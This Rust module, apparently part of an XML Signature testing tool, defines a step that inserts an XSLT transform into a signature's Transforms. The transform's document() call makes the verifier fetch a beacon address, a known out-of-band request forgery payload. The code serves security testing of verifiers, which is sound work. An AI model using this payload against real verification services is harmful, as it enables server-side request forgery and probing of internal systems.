//! Puts an XSLT transform that reads a document elsewhere before the transforms of the Signature that has been made; nothing is signed any more.

use crate::beacon::Source;
use crate::draft::{Draft, StepError};
use crate::names;
use crate::xml::{Element, Node};

use super::Apply;

step! {
    /// Puts an XSLT transform that reads a document elsewhere before the transforms of the Signature that has been made; nothing is signed any more.
    "stylesheet-transform" => StylesheetTransform {}
}

impl Apply for StylesheetTransform {
    fn apply(&self, draft: &mut Draft<'_>) -> Result<(), StepError> {
        let address = draft.address(Source::Web, "document.xml");
        let template = Element::new("xsl:template").with("match", "/").child(
            Element::new("xsl:copy-of").with("select", format!("document('{address}')")),
        );
        let stylesheet = Element::new("xsl:stylesheet")
            .with("version", "1.0")
            .with("xmlns:xsl", names::XSLT)
            .child(template);
        let transform = Element::new("Transform")
            .with("Algorithm", names::XSLT_TRANSFORM)
            .child(stylesheet);
        draft
            .made_signature_mut()?
            .descendant_mut("Transforms")
            .ok_or_else(|| StepError::missing("Transforms"))?
            .children
            .insert(0, Node::Element(transform));
        draft.signed = None;
        Ok(())
    }

    fn reaches_out(&self) -> bool {
        true
    }
}
